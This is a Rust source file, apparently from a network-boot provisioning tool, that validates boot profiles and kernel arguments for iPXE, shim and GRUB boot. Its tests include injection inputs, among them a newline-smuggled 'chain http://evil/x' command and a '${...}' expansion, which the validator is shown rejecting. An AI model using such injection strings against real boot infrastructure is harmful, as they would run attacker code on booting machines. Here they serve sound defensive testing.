//! `[boot]`: the iPXE binaries by client architecture, templates, and the boot profiles.

use std::collections::BTreeMap;
use std::path::PathBuf;

use serde::Deserialize;

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct WireBoot {
    pub bios: String,
    pub uefi_x64: String,
    pub uefi_x64_snp: bool,
    pub uefi_loader: UefiLoader,
    pub shim: String,
    pub arm64: String,
    pub discovery_profile: String,
    /// Kernel arguments added to the built-in discovery profile's command lines (both
    /// architectures): a serial console, `norandmaps` for emulated labs.
    pub discovery_args: String,
    pub profiles: Vec<WireProfile>,
    pub templates: PathBuf,
    /// systemd's EFI stub, on which the appliance builds BootOS as one UEFI image.
    pub efi_stub: PathBuf,
}

impl Default for WireBoot {
    fn default() -> Self {
        WireBoot {
            bios: "undionly.kpxe".into(),
            uefi_x64: "ipxe.efi".into(),
            uefi_x64_snp: false,
            uefi_loader: UefiLoader::Ipxe,
            shim: "shimx64.efi".into(),
            arm64: "shimaa64.efi".into(),
            discovery_profile: "discovery".into(),
            discovery_args: String::new(),
            profiles: Vec::new(),
            templates: PathBuf::new(),
            efi_stub: PathBuf::from(EFI_STUB),
        }
    }
}

#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct WireProfile {
    pub name: String,
    #[serde(default)]
    pub kernel: String,
    #[serde(default)]
    pub initrd: String,
    #[serde(default)]
    pub cmdline: String,
    /// For an installer: the answer file it reads (kickstart, preseed or autoinstall); the
    /// command line then has `{{ answer_url }}`, the file's URL for the booting machine.
    #[serde(default)]
    pub answer: Option<String>,
    /// A Windows profile: the imported media it boots (`rackboot windows import NAME DIR`),
    /// instead of a kernel and initrd.
    #[serde(default)]
    pub windows: Option<String>,
    /// What arm64 machines boot instead (kernel, initrd, optionally their command line).
    #[serde(default)]
    pub arm64: Option<ArchBoot>,
}

pub use rackboot_model::boot::{ArchBoot, UefiLoader};

/// Where Debian's `systemd-boot-efi` puts systemd's EFI stub for x86-64.
pub const EFI_STUB: &str = "/usr/lib/systemd/boot/efi/linuxx64.efi.stub";

/// The file shim loads from the directory it came from: Debian's signed network GRUB.
pub const GRUB_EFI: &str = "grubx64.efi";
/// The same on arm64 (shimaa64 loads grubaa64.efi).
pub const GRUB_EFI_ARM64: &str = "grubaa64.efi";

/// iPXE binaries handed to PXE ROMs, by client architecture, and the boot profiles.
#[derive(Debug, Clone)]
pub struct BootFiles {
    pub bios: String,
    pub uefi_x64: String,
    pub uefi_x64_snp: bool,
    /// What UEFI x64 PXE clients get unless their subnet says otherwise.
    pub uefi_loader: UefiLoader,
    /// The signed shim's name in the boot directory (with [`UefiLoader::Shim`]).
    pub shim: String,
    /// What arm64 UEFI PXE clients get: Debian's signed arm64 shim (`shimaa64.efi`), which
    /// loads [`GRUB_EFI_ARM64`] from beside it (Debian ships no arm64 iPXE).
    pub arm64: String,
    /// Profile that unknown and not yet provisioned machines boot.
    pub discovery_profile: String,
    pub profiles: BTreeMap<String, Profile>,
    /// systemd's EFI stub (see [`EFI_STUB`]): BootOS's UEFI image is built on it.
    pub efi_stub: PathBuf,
}

/// A named kernel + initrd + command line. Paths are relative to the boot directory (served at
/// `/boot/files/`) or full `http://` URLs; the command line is a template (`{{ mac }}`,
/// `{{ http_base }}`, `{{ hostname }}`, `{{ agent_url }}`, `{{ ca_pin }}`, and for an installer
/// `{{ answer_url }}`).
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct Profile {
    pub name: String,
    pub kernel: String,
    pub initrd: String,
    pub cmdline: String,
    /// The answer file an installer profile reads: one of [`rackboot_model::boot::ANSWER_KINDS`].
    pub answer: Option<String>,
    /// A Windows profile boots this imported media (`<tftp root>/windows/<name>/`) through its
    /// own Microsoft-signed `bootmgfw.efi`, from UEFI PXE only; kernel, initrd, command line and
    /// answer are then empty.
    pub windows: Option<String>,
    /// What arm64 machines boot instead, where the profile serves both architectures.
    pub arm64: Option<ArchBoot>,
}

/// The discovery profile used when the config names none: BootOS from the boot directory.
pub fn builtin_discovery() -> Profile {
    Profile {
        name: "discovery".into(),
        kernel: "bootos/vmlinuz".into(),
        initrd: "bootos/initrd.img".into(),
        cmdline:
            "console=tty0 console=ttyS0 rackboot.url={{ agent_url }} rackboot.ca={{ ca_pin }} rackboot.mac={{ mac }}"
                .into(),
        answer: None,
        windows: None,
        arm64: Some(ArchBoot {
            kernel: "bootos/arm64/vmlinuz".into(),
            initrd: "bootos/arm64/initrd.img".into(),
            cmdline: Some(
                "console=tty0 console=ttyAMA0 rackboot.url={{ agent_url }} rackboot.ca={{ ca_pin }} rackboot.mac={{ mac }}"
                    .into(),
            ),
        }),
    }
}

impl TryFrom<WireProfile> for Profile {
    type Error = anyhow::Error;

    fn try_from(w: WireProfile) -> anyhow::Result<Self> {
        let WireProfile { name, kernel, initrd, cmdline, answer, windows, arm64 } = w;
        anyhow::ensure!(
            rackboot_model::records::valid_hostname(&name),
            "boot profile name {name:?} must be letters, digits and '-'"
        );
        if let Some(media) = &windows {
            anyhow::ensure!(
                rackboot_model::boot::valid_media_name(media),
                "boot profile {name}: windows media name {media:?} must be letters, digits and '-' (not \"unattend\")"
            );
            anyhow::ensure!(
                kernel.is_empty() && initrd.is_empty() && cmdline.is_empty() && answer.is_none(),
                "boot profile {name}: a windows profile boots its media's bootmgfw.efi; kernel, initrd, cmdline and answer must be left out"
            );
            anyhow::ensure!(arm64.is_none(), "boot profile {name}: a windows profile has no arm64 files");
            return Ok(Profile { name, kernel, initrd, cmdline, answer, windows, arm64 });
        }
        anyhow::ensure!(
            !kernel.is_empty() && !initrd.is_empty(),
            "boot profile {name}: kernel and initrd are required"
        );
        if let Some(a) = &answer {
            anyhow::ensure!(
                rackboot_model::boot::ANSWER_KINDS.contains(&a.as_str()),
                "boot profile {name}: answer {a:?} is not one of {:?}",
                rackboot_model::boot::ANSWER_KINDS
            );
        }
        if let Some(a) = &arm64 {
            anyhow::ensure!(
                !a.kernel.is_empty() && !a.initrd.is_empty(),
                "boot profile {name}: arm64 needs both its kernel and its initrd"
            );
        }
        Ok(Profile { name, kernel, initrd, cmdline, answer, windows, arm64 })
    }
}

/// The longest `boot.discovery_args`.
const MAX_KERNEL_ARGS: usize = 512;

/// Refuses kernel arguments that could be more than arguments where the command line lands:
/// an iPXE script (`$` expands settings, a line break starts a command), a GRUB config (quotes,
/// `;`), the template engine (`{`).
fn check_kernel_args(args: &str) -> anyhow::Result<()> {
    anyhow::ensure!(args.len() <= MAX_KERNEL_ARGS, "boot.discovery_args is longer than {MAX_KERNEL_ARGS} bytes");
    let bad = args.chars().find(|c| !(c.is_ascii_alphanumeric() || " =,._:/+-@%".contains(*c)));
    anyhow::ensure!(
        bad.is_none(),
        "boot.discovery_args: {:?} is not allowed (kernel arguments: letters, digits, spaces and = , . _ : / + - @ %)",
        bad.unwrap_or_default()
    );
    Ok(())
}

/// `profile` with `args` after its command lines (both architectures').
fn with_args(mut profile: Profile, args: &str) -> Profile {
    let args = args.trim();
    if args.is_empty() {
        return profile;
    }
    let add = |cmdline: &mut String| {
        cmdline.push(' ');
        cmdline.push_str(args);
    };
    add(&mut profile.cmdline);
    if let Some(cmdline) = profile.arm64.as_mut().and_then(|a| a.cmdline.as_mut()) {
        add(cmdline);
    }
    profile
}

impl BootFiles {
    /// Validates `[boot]`; returns it with the template directory (`None`: the embedded ones).
    pub fn from_wire(w: WireBoot) -> anyhow::Result<(Self, Option<PathBuf>)> {
        let WireBoot {
            bios,
            uefi_x64,
            uefi_x64_snp,
            uefi_loader,
            shim,
            arm64,
            discovery_profile,
            discovery_args,
            profiles,
            templates,
            efi_stub,
        } = w;
        check_kernel_args(&discovery_args)?;
        anyhow::ensure!(
            !shim.is_empty() && !shim.contains('/') && shim != GRUB_EFI,
            "boot.shim {shim:?} must be a file name at the top of the boot directory (shim loads {GRUB_EFI} from beside it)"
        );
        anyhow::ensure!(
            !arm64.contains('/') && arm64 != GRUB_EFI_ARM64,
            "boot.arm64 {arm64:?} must be a file name at the top of the boot directory, or empty (shim loads {GRUB_EFI_ARM64} from beside it)"
        );
        let templates = (!templates.as_os_str().is_empty()).then_some(templates);
        let mut by_name = BTreeMap::new();
        for p in profiles {
            let p = Profile::try_from(p)?;
            let name = p.name.clone();
            anyhow::ensure!(by_name.insert(name.clone(), p).is_none(), "boot profile {name} is defined twice");
        }
        // The built-in discovery profile, unless the config defines its own.
        if !by_name.contains_key("discovery") {
            let d = with_args(builtin_discovery(), &discovery_args);
            by_name.insert(d.name.clone(), d);
        } else {
            anyhow::ensure!(
                discovery_args.is_empty(),
                "boot.discovery_args adds to the built-in discovery profile, but [[boot.profiles]] defines \"discovery\" itself: put the arguments in its cmdline"
            );
        }
        anyhow::ensure!(
            by_name.contains_key(&discovery_profile),
            "boot.discovery_profile {discovery_profile:?} is not among [[boot.profiles]]"
        );
        let files = BootFiles {
            bios,
            uefi_x64,
            uefi_x64_snp,
            uefi_loader,
            shim,
            arm64,
            discovery_profile,
            profiles: by_name,
            efi_stub,
        };
        Ok((files, templates))
    }
}

#[cfg(test)]
mod tests {
    use crate::Config;

    #[test]
    fn profiles_are_checked_and_discovery_is_built_in() {
        let cfg = Config::load(None).unwrap();
        assert_eq!(cfg.boot.profiles["discovery"].kernel, "bootos/vmlinuz");
        let win = Config::parse("[[boot.profiles]]\nname=\"win\"\nwindows=\"w2022\"").unwrap();
        assert_eq!(win.boot.profiles["win"].windows.as_deref(), Some("w2022"));
        // Arguments for the built-in profile land after both architectures' command lines.
        let args = Config::parse("[boot]\ndiscovery_args = \" console=ttyS1,115200n8 norandmaps \"").unwrap();
        let (d, builtin) = (&args.boot.profiles["discovery"], super::builtin_discovery());
        assert_eq!(d.cmdline, format!("{} console=ttyS1,115200n8 norandmaps", builtin.cmdline));
        assert_eq!(
            d.arm64.as_ref().and_then(|a| a.cmdline.clone()),
            builtin.arm64.and_then(|a| a.cmdline).map(|c| c + " console=ttyS1,115200n8 norandmaps")
        );
        let cases: [(&str, &str); 13] = [
            ("[[boot.profiles]]\nname=\"a b\"\nkernel=\"k\"\ninitrd=\"i\"", "letters, digits"),
            ("[[boot.profiles]]\nname=\"x\"\nkernel=\"\"\ninitrd=\"i\"", "required"),
            ("[[boot.profiles]]\nname=\"x\"\nkernel=\"k\"\ninitrd=\"i\"\nanswer=\"msi\"", "answer"),
            ("[boot]\ndiscovery_profile = \"nope\"", "discovery_profile"),
            ("[[boot.profiles]]\nname=\"w\"\nwindows=\"a/b\"", "windows media name"),
            ("[[boot.profiles]]\nname=\"w\"\nwindows=\"unattend\"", "windows media name"),
            ("[[boot.profiles]]\nname=\"w\"\nwindows=\"w2022\"\nkernel=\"k\"", "left out"),
            ("[boot]\ndiscovery_args = \"console=ttyS1 ${net0/ip}\"", "'$' is not allowed"),
            ("[boot]\ndiscovery_args = \"quiet\\nchain http://evil/x\"", "'\\n' is not allowed"),
            ("[boot]\ndiscovery_args = \"a\\\"b\"", "is not allowed"),
            ("[boot]\ndiscovery_args = \"{{ mac }}\"", "'{' is not allowed"),
            (&format!("[boot]\ndiscovery_args = \"{}\"", "a".repeat(513)), "longer than 512"),
            (
                "[boot]\ndiscovery_args = \"quiet\"\n[[boot.profiles]]\nname=\"discovery\"\nkernel=\"k\"\ninitrd=\"i\"",
                "defines \"discovery\" itself",
            ),
        ];
        for (text, want) in cases {
            let err = format!("{:#}", Config::parse(text).unwrap_err());
            assert!(err.contains(want), "{text:?}: {err}");
        }
    }
}
